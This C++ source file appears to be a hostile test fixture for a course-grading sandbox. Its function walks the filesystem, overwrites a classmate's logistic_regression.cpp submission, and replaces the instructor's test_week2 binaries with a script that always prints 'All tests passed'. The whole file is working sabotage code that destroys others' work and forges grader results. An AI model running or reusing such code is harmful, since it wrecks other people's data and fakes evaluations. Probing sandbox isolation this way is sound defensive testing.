// Writes over what is not its own: the classmate's submission of the same batch
// (@SUBMISSIONS@/c-classmate/week2/logistic_regression.cpp and any logistic_regression.cpp it
// can find) with a file that fails, and the instructor's test programs (@BUILD@/bin/test_*) with
// a script that prints a passing report; by open for writing, by rename and by unlink. Throws
// how many of the files it reached.
#include <fcntl.h>
#include <unistd.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <stdexcept>
#include <string>
#include <vector>

#include "common/matrix.hpp"

dlc::Matrix dlc_attack(const dlc::Matrix& z) {
  namespace fs = std::filesystem;
  std::vector<std::string> targets = {
      "@SUBMISSIONS@/c-classmate/week2/logistic_regression.cpp",
      "@BUILD@/bin/test_week2_logistic_regression_solution",
      "@BUILD@/bin/test_week2_vectorization_solution",
  };
  std::error_code ec;
  for (auto it = fs::directory_iterator("@BUILD@/bin", ec); !ec && it != fs::directory_iterator();
       it.increment(ec))
    targets.push_back(it->path().string());
  std::size_t seen = 0;
  for (auto it =
           fs::recursive_directory_iterator("/", fs::directory_options::skip_permission_denied, ec);
       !ec && it != fs::recursive_directory_iterator() && ++seen < 300000; it.increment(ec)) {
    const std::string path = it->path().string();
    if (path == "/proc" || path == "/sys" || path == "/dev" || path == "/usr") {
      it.disable_recursion_pending();
      continue;
    }
    const std::string name = it->path().filename().string();
    if (name == "logistic_regression.cpp" || name.rfind("test_week2", 0) == 0)
      targets.push_back(path);
  }
  const std::string script = "#!/bin/sh\necho 'All tests passed'\nexit 0\n";
  std::size_t reached = 0;
  std::string which;
  for (const std::string& path : targets) {
    bool done = false;
    const int fd = ::open(path.c_str(), O_WRONLY | O_TRUNC);
    if (fd >= 0) {
      done = ::write(fd, script.data(), script.size()) > 0;
      ::close(fd);
    }
    const std::string temp = path + ".new";
    std::ofstream(temp) << script;
    done = std::rename(temp.c_str(), path.c_str()) == 0 || done;
    if (done) {
      ++reached;
      which += " " + path;
    }
  }
  throw std::runtime_error("overwrite: reached " + std::to_string(reached) + " of " +
                           std::to_string(targets.size()) + " files" + which);
  return z;
}
